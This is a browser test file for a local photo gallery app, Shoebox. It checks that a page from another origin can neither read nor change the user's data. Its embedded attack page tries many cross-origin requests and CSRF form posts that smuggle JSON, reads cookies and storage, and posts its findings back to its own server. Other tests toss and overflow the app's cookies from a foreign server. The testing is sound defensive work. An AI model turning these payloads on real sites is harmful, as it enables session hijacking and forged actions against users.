"""A page of somebody else in the user's own browser, which holds our cookie, reads nothing and changes nothing (S06)."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from tests.browser.foreign_server import ForeignServer
from tests.browser.real_page import ready
from tests.web.client import ApiClient

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Page

    from tests.browser.conftest import OpenPage
    from tests.conftest import Serve

pytestmark = pytest.mark.browser

HELPERS = """
const loads = (element) => new Promise((done) => {
  element.onload = () => done('LOADED'); element.onerror = () => done('refused'); document.body.append(element);
});
const at = (tag, attributes) => Object.assign(document.createElement(tag), attributes);
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const read = async (answer) => `READ ${answer.type} ${answer.status} ${(await answer.text()).slice(0, 60)}`;
const framed = async (tag, attributes) => {
  const frame = at(tag, attributes); document.body.append(frame); await pause(1500);
  const inner = frame.contentWindow;
  try { return inner && inner.location.href !== 'about:blank' ? `READ ${inner.document.body.textContent.slice(0, 60)} ${inner.location.href}` : 'refused'; }
  catch (error) { return 'refused: ' + error.name; }
};
const posted = async (target, type, name) => {
  const frame = at('iframe', {name}); document.body.append(frame);
  const form = at('form', {action: target, method: 'post', enctype: type, target: name});
  form.append(at('input', {name: '{"paused": true, "x": "', value: '"}'})); document.body.append(form); form.submit();
  await pause(500); return 'sent';
};
const opened = async (target) => {
  const other = window.open(target); await pause(800);
  try { return other && !other.closed && other.location.href !== 'about:blank' ? `READ ${other.document.body.textContent.slice(0, 60)} ${other.location.href}` : 'refused'; }
  catch (error) { return 'refused: ' + error.name; }
};
"""
WAYS = {
    "img": "loads(at('img', {src: HOME + '/favicon.ico'}))",
    "img with cors": "loads(at('img', {src: HOME + '/favicon.ico', crossOrigin: 'use-credentials'}))",
    "img of a photo": "loads(at('img', {src: HOME + '/media/' + KEY + '/thumb/1'}))",
    "img of an original": "loads(at('img', {src: HOME + '/media/' + KEY + '/original/1'}))",
    "script": "loads(at('script', {src: HOME + '/ui/js/main.js'}))",
    "module": "loads(at('script', {src: HOME + '/ui/js/main.js', type: 'module'}))",
    "json as a script": "loads(at('script', {src: HOME + '/api/status'}))",
    "import": "import(HOME + '/ui/js/main.js').then(() => 'LOADED', () => 'refused')",
    "style": "loads(at('link', {rel: 'stylesheet', href: HOME + '/ui/css/tokens.css'}))",
    "preload": "loads(at('link', {rel: 'preload', as: 'fetch', href: HOME + '/api/status'}))",
    "prefetch": "loads(at('link', {rel: 'prefetch', href: HOME + '/'}))",
    "video": "new Promise((y) => { const v = at('video', {src: HOME + '/media/' + KEY + '/original/1'}); v.onloadeddata = () => y('LOADED'); v.onerror = () => y('refused'); v.load(); })",
    "fetch": "fetch(HOME + '/api/status', {credentials: 'include'}).then(read, () => 'refused')",
    "fetch without cors": "fetch(HOME + '/', {mode: 'no-cors', credentials: 'include'}).then(read, () => 'refused')",
    "fetch of the page": "fetch(HOME + '/', {credentials: 'include'}).then(read, () => 'refused')",
    "fetch with the key": "fetch(HOME + '/api/status', {credentials: 'include', headers: {'X-Gallery-Key': KEY}}).then(read, () => 'refused')",
    "write as text": "fetch(HOME + '/api/scan', {method: 'POST', mode: 'no-cors', credentials: 'include', headers: {'Content-Type': 'text/plain'}, body: '{\"paused\":true}'}).then(read, () => 'refused')",
    "write as json": "fetch(HOME + '/api/scan', {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-Gallery-Key': KEY}, body: '{\"paused\":true}'}).then(read, () => 'refused')",
    "delete": "fetch(HOME + '/api/roots/1', {method: 'DELETE', credentials: 'include', headers: {'X-Gallery-Key': KEY}}).then(read, () => 'refused')",
    "xhr": "new Promise((y) => { const x = new XMLHttpRequest(); x.withCredentials = true; x.onload = () => y('READ ' + x.responseText); x.onerror = () => y('refused'); x.open('GET', HOME + '/api/status'); x.send(); })",
    "beacon": "navigator.sendBeacon(HOME + '/api/scan', new Blob(['{\"paused\":true}'], {type: 'text/plain'})), 'sent'",
    "form, plain": "posted(HOME + '/api/scan', 'text/plain', 'one')",
    "form, encoded": "posted(HOME + '/api/rescan', 'application/x-www-form-urlencoded', 'two')",
    "form, many parts": "posted(HOME + '/api/scan', 'multipart/form-data', 'three')",
    "event source": "new Promise((y) => { const e = new EventSource(HOME + '/feed/' + KEY, {withCredentials: true}); e.onopen = () => y('READ'); e.onerror = () => (e.close(), y('refused')); })",
    "web socket": "new Promise((y) => { const s = new WebSocket(HOME.replace('http', 'ws') + '/feed/' + KEY); s.onopen = () => y('READ'); s.onerror = () => y('refused'); })",
    "worker": "new Promise((y) => { try { const w = new Worker(HOME + '/ui/js/main.js'); w.onerror = () => y('refused'); setTimeout(y, 500, 'silent'); } catch (error) { y('refused'); } })",
    "importScripts": "new Promise((y) => { const w = new Worker(URL.createObjectURL(new Blob([`try { importScripts('${HOME}/ui/js/main.js'); postMessage('LOADED'); } catch { postMessage('refused'); }`]))); w.onmessage = (e) => y(e.data); })",
    "service worker": "navigator.serviceWorker ? navigator.serviceWorker.register(HOME + '/ui/js/main.js').then(() => 'LOADED', () => 'refused') : 'refused'",
    "iframe": "framed('iframe', {src: HOME + '/'})",
    "iframe of the api": "framed('iframe', {src: HOME + '/api/status'})",
    "iframe in a sandbox": "framed('iframe', {src: HOME + '/', sandbox: 'allow-scripts allow-same-origin'})",
    "object": "framed('object', {data: HOME + '/'})",
    "embed": "framed('embed', {src: HOME + '/favicon.ico', type: 'image/png'})",
    "window": "opened(HOME + '/')",
    "window of the api": "opened(HOME + '/api/status')",
    "window of a boot address": "opened(HOME + '/boot/' + KEY)",
    "the opener": "String(window.opener && window.opener.location)",
    "storage": "String(sessionStorage.getItem('gallery-key'))",
    "the cookie": "document.cookie",
}


def attack(home: str) -> str:
    """Return a page that tries every way, each for a second and a half at most, and reports what became of it."""
    body = "".join(f"attempt({name!r}, async () => ({code})),\n" for name, code in WAYS.items())
    return f"""<!doctype html><title>cats</title><body><script>
const HOME = {home!r}, KEY = 'A'.repeat(43), found = {{}};
{HELPERS}
const attempt = async (name, act) => {{
  try {{ found[name] = String(await Promise.race([act(), pause(3000).then(() => 'silent')])); }}
  catch (error) {{ found[name] = 'refused: ' + error.name; }}
}};
Promise.all([
{body}]).then(() => fetch('/found', {{method: 'POST', body: JSON.stringify(found)}}));
</script></body>"""


def state(page: Page) -> Any:
    """Return what the user set, as the user's own page is told it; but not the place, which the page itself may note."""
    return page.evaluate(
        """async () => {
          const headers = {'X-Gallery-Key': sessionStorage.getItem('gallery-key')};
          const get = async (path) => { const a = await fetch(path, {headers}); return [a.status, await a.json()]; };
          const [code, {roots, counts, progress, view: {anchor, ...view}}] = await get('/api/status');
          return [code, roots, counts, progress.stage, view, await get('/api/searches')];
        }"""
    )


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_a_foreign_page_reads_and_changes_nothing(serve: Serve, open_page: OpenPage, photos: Path, name: str) -> None:
    """Another port of this very host shares our cookies and is of the same *site*; another name is not."""
    served = serve(photos)
    home = f"http://127.0.0.1:{served.port}"
    page = ready(open_page(served))
    before = state(page)
    with ForeignServer(attack(home)) as other:
        foreign = page.context.new_page()
        foreign.goto(f"http://{name}:{other.port}/")
        assert other.reported.wait(90)
        assert set(other.found) == set(WAYS)
        leaked = {way: what for way, what in other.found.items() if what.startswith(("READ", "LOADED"))}
        assert leaked == {}
        assert "shoebox" not in other.found["the cookie"], "the cookie is HttpOnly"
        assert (other.found["storage"], other.found["the opener"]) == ("null", "null")
        if name == "127.0.0.1":
            assert any(f"shoebox_{served.port}=" in cookie for cookie in other.cookies), "cookies know no ports (S10)"
    assert state(page) == before
    assert before[0] == 200


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_a_link_of_a_foreign_page_does_not_lead_in(serve: Serve, open_page: OpenPage, photos: Path, name: str) -> None:
    served = serve(photos)
    home = f"http://127.0.0.1:{served.port}"
    page = ready(open_page(served))
    for target in ("/", "/#/?q=x", "/api/status", "/ui/js/main.js"):
        with ForeignServer(f"<!doctype html><a id=way href='{home}{target}'>cats</a>") as other:
            foreign = page.context.new_page()
            foreign.goto(f"http://{name}:{other.port}/")
            foreign.click("#way")
            foreign.wait_for_url(f"{home}/**")
            assert foreign.locator("body").inner_text() == "This request did not come from the Shoebox page."
            assert foreign.evaluate("window.opener === null && sessionStorage.length === 0")
            foreign.close()
    assert state(page)[0] == 200


def test_what_the_cookie_alone_opens_is_an_empty_page(serve: Serve, open_page: OpenPage, photos: Path) -> None:
    """Another server is sent the cookie, and can use it from outside of the browser: no photo, no name, no key."""
    served = serve(photos)
    page = ready(open_page(served))
    with ForeignServer("cats") as other:
        page.context.new_page().goto(f"http://127.0.0.1:{other.port}/")
        cookie = other.cookies[0].partition(f"shoebox_{served.port}=")[2].partition(";")[0]
    assert cookie
    client = ApiClient(served.port, cookie, "")
    assert client.ask("/", X_Gallery_Key=None).status == 200
    for target in ("/api/status", "/api/timeline.bin", "/media/x/thumb/1", "/feed/x"):
        assert client.ask(target, X_Gallery_Key=None).status == 401


@pytest.mark.parametrize(
    ("cookies", "said", "shown"),
    [
        (["shoebox_PORT=x; Path=/; Max-Age=0"], "This page is signed out", "This page is not signed in."),
        (["shoebox_PORT=x; Path=/"], "This page is signed out", "This page is not signed in."),
        (["shoebox_PORT=x; Path=/api"], "This page is signed out", ""),
        ([f"fill{number}={'x' * 4000}; Path=/" for number in range(7)], *["more cookies than Shoebox can take"] * 2),
    ],
    ids=["removed", "replaced", "twice", "28 KB"],
)
def test_what_another_server_can_do_is_said_with_the_way_back(
    serve: Serve, open_page: OpenPage, photos: Path, cookies: list[str], said: str, shown: str
) -> None:
    """It can log the page out, not in. The page says so; a new address brings it back."""
    served = serve(photos)
    page = ready(open_page(served))
    with ForeignServer("cats") as other:
        other.headers = [("Set-Cookie", cookie.replace("PORT", str(served.port))) for cookie in cookies]
        page.context.new_page().goto(f"http://127.0.0.1:{other.port}/")
    page.evaluate("location.hash = '#/?q=rome'")
    page.locator(".banner").get_by_text(said).wait_for(timeout=30_000)
    assert "Enter where Shoebox runs" in page.locator(".banner").inner_text()
    page.locator(".banner").get_by_role("button", name="Try again").click()
    assert page.locator(".toast", has_text="does not answer").count() == 0
    again = page.context.new_page()
    again.goto(f"http://127.0.0.1:{served.port}/")
    text = again.locator("body").inner_text()
    assert shown in text
